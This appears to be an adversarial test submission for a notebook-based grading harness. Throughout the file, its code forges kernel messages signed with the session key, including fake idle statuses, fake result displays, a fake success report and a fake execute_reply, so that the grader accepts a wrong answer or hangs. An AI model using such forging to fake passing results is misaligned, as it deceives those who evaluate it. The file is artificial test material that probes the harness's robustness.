# tries: to end cells itself: replies and idle messages signed with the session's key, for this and the next requests
# success: the grader is confused into accepting or hanging
# expect: wrong_answer, runtime_error, time_limit
# control: none, it is what follows that is tried
import threading, time
kernel = get_ipython().kernel
def forge():
    going = until(20)
    while going():
        parent = kernel.get_parent()
        name, _, number = parent["header"]["msg_id"].rpartition("_")
        for ahead in range(4):
            try:
                header = dict(parent["header"], msg_id=f"{name}_{int(number) + ahead}")
            except ValueError:
                break
            for kind, content in (("status", {"execution_state": "idle"}), ("execute_input", {"code": "x", "execution_count": 1}),
                                  ("display_data", {"data": {MIME: case(0, "x")}, "metadata": {}}),
                                  ("display_data", {"data": {MIME: report(batch=1, late=False)}, "metadata": {}})):
                kernel.session.send(kernel.iopub_socket, kind, content, parent=header, ident=b"forged")
        time.sleep(0.02)
threading.Thread(target=forge, daemon=True).start()
def answer(clue):
    return "no idea"
# %%
parent = kernel.get_parent()
for stream in (getattr(kernel, "shell_stream", None), *getattr(kernel, "shell_streams", ())):
    if stream is not None:
        kernel.session.send(stream, "execute_reply", {"status": "ok", "execution_count": 1}, parent=parent, ident=getattr(kernel, "_parent_ident", {}).get("shell"))
time.sleep(1)
